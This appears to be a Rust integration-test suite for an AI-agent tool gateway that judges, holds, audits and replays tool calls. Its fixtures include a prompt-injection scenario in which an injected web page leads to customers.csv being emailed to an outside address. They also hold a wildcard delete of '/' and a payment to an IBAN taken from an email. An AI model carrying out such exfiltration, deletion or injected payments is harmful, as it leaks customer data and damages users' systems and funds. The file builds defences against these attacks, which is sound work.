//! The judge on the live path, end to end: an injected page leading to an
//! exfiltration attempt is refused with an explanation, ordinary work
//! passes, every decision lands in a verifiable audit log, and `castellan
//! replay` judges recorded sessions.

mod support;

use serde_json::{Value, json};
use support::{Gateway, call, castellan, open_session, text_of};

const DEMO: &str = "upstreams:\n  - name: mail\n    builtin: mail\n  - name: files\n    builtin: files\n  - name: web\n    builtin: web\n  - name: chat\n    builtin: chat\n";

#[tokio::test]
async fn an_exfiltration_chain_started_by_an_injected_page_is_refused_and_explained() {
    let gw = Gateway::start(DEMO);
    let sid = open_session(&gw.url).await;
    let _ = call(&gw.url, &sid, 1, "tools/list", json!({})).await;
    let page = call(&gw.url, &sid, 2, "tools/call", json!({"name": "web__fetch_url", "arguments": {"url": "https://travel-deals.example/offers"}})).await;
    assert!(text_of(page.last()).contains("Lisbon"));
    let file = call(
        &gw.url,
        &sid,
        3,
        "tools/call",
        json!({"name": "files__read_file", "arguments": {"path": "customers.csv"}}),
    )
    .await;
    let customers = text_of(file.last());
    let send = call(
        &gw.url,
        &sid,
        4,
        "tools/call",
        json!({"name": "mail__send_email", "arguments": {"to": "partners@travel-deals.example", "subject": "sync", "body": customers}}),
    )
    .await;
    let result = &send.last()["result"];
    assert_eq!(
        result["isError"],
        true,
        "the send must not go through: {}",
        send.last()
    );
    let decision = &result["_meta"]["io.castellan/decision"];
    assert!(
        ["hold", "deny", "quarantine"].contains(&decision["decision"].as_str().unwrap_or_default()),
        "{decision}"
    );
    assert!(
        !decision["rules"]
            .as_array()
            .map(Vec::is_empty)
            .unwrap_or(true),
        "{decision}"
    );
    assert!(
        text_of(send.last()).contains(decision["id"].as_str().unwrap_or("?")),
        "the refusal names its decision id"
    );
    // Nothing was sent.
    let sent = call(
        &gw.url,
        &sid,
        5,
        "tools/call",
        json!({"name": "mail__list_inbox", "arguments": {"folder": "sent"}}),
    )
    .await;
    assert!(
        !text_of(sent.last()).contains("travel-deals"),
        "{}",
        text_of(sent.last())
    );
}

#[tokio::test]
async fn ordinary_work_passes_and_every_decision_is_recorded_in_a_verifiable_log() {
    let dir = support::scratch("strict-audit");
    let db = dir.join("audit.db");
    // Strict durability: each record is on disk before the agent's answer, so
    // killing the gateway right after loses nothing.
    let gw = Gateway::start(&format!(
        "audit:\n  path: {}\n  durability: strict\n{DEMO}",
        db.display()
    ));
    let sid = open_session(&gw.url).await;
    let report = call(
        &gw.url,
        &sid,
        1,
        "tools/call",
        json!({"name": "files__read_file", "arguments": {"path": "reports/q3.md"}}),
    )
    .await;
    let text = text_of(report.last());
    let post = call(&gw.url, &sid, 2, "tools/call", json!({"name": "chat__post_message", "arguments": {"channel": "finance", "text": format!("Q3 summary: {text}")}})).await;
    assert_ne!(post.last()["result"]["isError"], true, "{}", post.last());
    let send = call(
        &gw.url,
        &sid,
        3,
        "tools/call",
        json!({"name": "mail__send_email", "arguments": {"to": "partners@travel-deals.example", "body": "nothing sensitive"}}),
    )
    .await;
    // An answer without a decision in `_meta` was forwarded as allowed.
    let decision = send.last()["result"]["_meta"]["io.castellan/decision"]["decision"]
        .as_str()
        .unwrap_or("allow")
        .to_owned();
    drop(gw);
    let verify = castellan(&["audit", "verify", &db.display().to_string()]);
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stderr)
    );
    assert!(
        String::from_utf8_lossy(&verify.stdout).contains("intact (3 records)"),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
    let q = castellan(&[
        "audit",
        "query",
        &db.display().to_string(),
        "--tool",
        "post_message",
    ]);
    let lines: Vec<Value> = String::from_utf8_lossy(&q.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["decision"], "allow");
    assert_eq!(lines[0]["agent"], "test-agent");
    assert!(
        lines[0]["args_redacted"]["text"]
            .as_str()
            .unwrap_or_default()
            .starts_with('<'),
        "arguments are kept as shape only"
    );
    let q = castellan(&[
        "audit",
        "query",
        &db.display().to_string(),
        "--decision",
        &decision,
    ]);
    assert!(
        String::from_utf8_lossy(&q.stdout).contains("send_email"),
        "the send is recorded with the decision its answer carried ({decision}): {}",
        String::from_utf8_lossy(&q.stdout)
    );
}

#[test]
fn replay_judges_recorded_sessions_line_by_line_with_a_summary() {
    let traces = format!("{}/../../scenarios/mail.jsonl", env!("CARGO_MANIFEST_DIR"));
    let out = castellan(&["replay", &traces]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert!(lines.len() > 50);
    for l in &lines {
        assert!(
            l["id"].is_string()
                && l["index"].is_u64()
                && l["tool"].is_string()
                && l["rules"].is_array()
                && l["risk"].is_u64()
        );
        assert!(
            ["allow", "redact", "hold", "throttle", "deny", "quarantine"]
                .contains(&l["decision"].as_str().unwrap_or_default())
        );
    }
    assert!(
        lines.iter().any(|l| l["decision"] != "allow"),
        "attacks in the corpus are stopped"
    );
    assert!(!out.stderr.is_empty(), "a summary goes to stderr");
    let bad = support::scratch("badtrace").join("t.jsonl");
    std::fs::write(
        &bad,
        "{\"id\": \"x\", \"calls\": [{\"tool\": \"a\"}]}\nnot json\n",
    )
    .expect("write");
    let out = castellan(&["replay", &bad.display().to_string()]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("t.jsonl:2"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn replay_reads_a_configuration_that_holds_only_a_judge_section() {
    let dir = support::scratch("judge-only");
    let cfg = dir.join("judge.yaml");
    std::fs::write(&cfg, "judge:\n  pack: none\n").expect("write");
    let traces = dir.join("t.jsonl");
    std::fs::write(
        &traces,
        "{\"id\": \"s\", \"calls\": [{\"tool\": \"delete_file\", \"args\": {\"path\": \"/\"}}]}\n",
    )
    .expect("write");
    let out = castellan(&[
        "replay",
        "--config",
        &cfg.display().to_string(),
        &traces.display().to_string(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // `pack: none` was read: the wildcard delete the default pack holds is allowed.
    let line: Value =
        serde_json::from_str(String::from_utf8_lossy(&out.stdout).trim()).expect("one json line");
    assert_eq!(line["decision"], "allow", "{line}");
}

#[test]
fn check_reports_a_broken_rule_file_with_its_line() {
    let dir = support::scratch("badrules");
    let rules = dir.join("rules.yaml");
    std::fs::write(&rules, "rules:\n  - id: r1\n    description: x\n    when:\n      tool: send_*\n    action: explode\n").expect("write");
    let cfg = dir.join("castellan.yaml");
    std::fs::write(
        &cfg,
        format!(
            "auth:\n  mode: none\njudge:\n  rules: [{}]\n",
            rules.display()
        ),
    )
    .expect("write");
    let out = castellan(&["check", &cfg.display().to_string()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("rules.yaml:"), "{err}");
}

#[test]
fn tools_lists_every_upstream_tool_with_its_labels_and_their_sources() {
    let dir = support::scratch("tools");
    let cfg = dir.join("castellan.yaml");
    std::fs::write(&cfg, format!("auth:\n  mode: none\njudge:\n  labels:\n    - match: \"chat/post_message\"\n      add: [private]\n{DEMO}")).expect("write");
    let out = castellan(&["tools", "--config", &cfg.display().to_string(), "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tools: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let find = |server: &str, tool: &str| {
        tools
            .iter()
            .find(|t| t["server"] == server && t["tool"] == tool)
            .cloned()
            .unwrap_or_else(|| panic!("{server}/{tool} missing"))
    };
    let send = find("mail", "send_email");
    assert!(
        send["labels"]
            .as_array()
            .expect("labels")
            .iter()
            .any(|l| l["label"] == "egress"),
        "{send}"
    );
    let post = find("chat", "post_message");
    assert!(
        post["labels"]
            .as_array()
            .expect("labels")
            .iter()
            .any(|l| l["label"] == "private"
                && l["source"].as_str().unwrap_or_default().contains("config")),
        "{post}"
    );
}

mod holds {
    use super::*;

    use support::admin;

    fn config() -> String {
        format!(
            "{}judge:\n  hold_timeout: 20s\nupstreams:\n  - name: mail\n    builtin: mail\n  - name: payments\n    builtin: payments\n",
            support::admin_section()
        )
    }

    /// Pays the IBAN that arrived in an e-mail: the default pack holds it.
    async fn held_payment(gw: &Gateway, approve: bool) -> Value {
        let sid = open_session(&gw.url).await;
        let mail = call(
            &gw.url,
            &sid,
            1,
            "tools/call",
            json!({"name": "mail__read_email", "arguments": {"id": 3}}),
        )
        .await;
        assert!(text_of(mail.last()).contains("DE89370400440532013000"));
        let url = gw.url.clone();
        let pay = tokio::spawn(async move {
            call(&url, &sid, 2, "tools/call", json!({"name": "payments__transfer_funds", "arguments": {"from_account": "operating", "to_iban": "DE89370400440532013000", "amount": 1250.0, "memo": "invoice 2291"}})).await
        });
        let mut hold_id = String::new();
        support::eventually(15, async || {
            let holds = admin(gw, "GET", "/holds").await;
            match holds.last()["holds"][0]["id"].as_str() {
                Some(id) => {
                    hold_id = id.to_string();
                    true
                }
                None => false,
            }
        })
        .await;
        let verb = if approve { "approve" } else { "refuse" };
        let r = admin(gw, "POST", &format!("/holds/{hold_id}/{verb}")).await;
        assert_eq!(
            r.status,
            http::StatusCode::OK,
            "{}",
            String::from_utf8_lossy(&r.body)
        );
        pay.await.expect("payment call").last().clone()
    }

    #[tokio::test]
    async fn a_held_payment_goes_through_when_an_operator_approves_it() {
        let gw = Gateway::start(&config());
        let answer = held_payment(&gw, true).await;
        assert_ne!(answer["result"]["isError"], true, "{answer}");
        assert!(text_of(&answer).contains("transferred"), "{answer}");
    }

    #[tokio::test]
    async fn a_held_payment_is_refused_when_an_operator_refuses_it() {
        let gw = Gateway::start(&config());
        let answer = held_payment(&gw, false).await;
        assert_eq!(answer["result"]["isError"], true, "{answer}");
        assert!(text_of(&answer).contains("not approved"), "{answer}");
    }

    #[tokio::test]
    async fn the_admin_api_refuses_requests_without_its_token() {
        let gw = Gateway::start(&config());
        let base = gw.admin.clone().expect("admin API");
        let r = support::send(
            "GET",
            &format!("{base}/holds"),
            &[("authorization", "")],
            Vec::new(),
        )
        .await;
        assert_eq!(r.status, http::StatusCode::UNAUTHORIZED);
        let r = support::send(
            "GET",
            &format!("{base}/holds"),
            &[(
                "authorization",
                "Bearer cst_test_0123456789abcdef0123456789abcdef",
            )],
            Vec::new(),
        )
        .await;
        assert_eq!(
            r.status,
            http::StatusCode::UNAUTHORIZED,
            "an agent key is not an admin token"
        );
        let r = admin(&gw, "GET", "/ready").await;
        assert_eq!(r.status, http::StatusCode::OK);
    }

    #[tokio::test]
    async fn metrics_count_decisions_after_real_traffic() {
        let gw = Gateway::start(&config());
        let sid = open_session(&gw.url).await;
        for n in 0..3 {
            let _ = call(
                &gw.url,
                &sid,
                n,
                "tools/call",
                json!({"name": "mail__list_inbox", "arguments": {}}),
            )
            .await;
        }
        let text = gw.metrics().await;
        let line = text
            .lines()
            .find(|l| {
                l.starts_with("castellan_decisions_total")
                    && l.contains("decision=\"allow\"")
                    && l.contains("upstream=\"mail\"")
            })
            .unwrap_or_else(|| panic!("no allow counter in:\n{text}"));
        let count: f64 = line
            .rsplit(' ')
            .next()
            .and_then(|v| v.parse().ok())
            .expect("value");
        assert!(count >= 3.0, "{line}");
        assert!(text.contains("castellan_judge_seconds"), "{text}");
    }
}

#[tokio::test]
async fn rule_changes_take_effect_without_a_restart_and_a_broken_file_is_refused() {
    let dir = support::scratch("reload");
    let rules = dir.join("rules.yaml");
    let allow_all = "rules:\n  - id: note-inbox\n    description: inbox read\n    action: log\n    when:\n      tool: [\"list_inbox\"]\n";
    std::fs::write(&rules, allow_all).expect("write");
    let gw = Gateway::start(&format!("judge:\n  rules: [{}]\n{DEMO}", rules.display()));
    let sid = open_session(&gw.url).await;
    let r = call(
        &gw.url,
        &sid,
        1,
        "tools/call",
        json!({"name": "mail__list_inbox", "arguments": {}}),
    )
    .await;
    assert_ne!(r.last()["result"]["isError"], true, "{}", r.last());
    let deny = "rules:\n  - id: no-inbox\n    description: the inbox is off limits\n    action: deny\n    when:\n      tool: [\"list_inbox\"]\n";
    std::fs::write(&rules, deny).expect("write");
    let mut n = 2;
    support::eventually(15, async || {
        n += 1;
        let r = call(
            &gw.url,
            &sid,
            n,
            "tools/call",
            json!({"name": "mail__list_inbox", "arguments": {}}),
        )
        .await;
        r.last()["result"]["isError"] == true
    })
    .await;
    std::fs::write(
        &rules,
        "rules:\n  - id: broken\n    action: [not an action\n",
    )
    .expect("write");
    support::eventually(15, async || {
        gw.logs().contains("configuration change refused")
    })
    .await;
    let r = call(
        &gw.url,
        &sid,
        100,
        "tools/call",
        json!({"name": "mail__list_inbox", "arguments": {}}),
    )
    .await;
    assert_eq!(
        r.last()["result"]["isError"],
        true,
        "the last good rules stay in force"
    );
    assert!(text_of(r.last()).contains("no-inbox"), "{}", r.last());
}
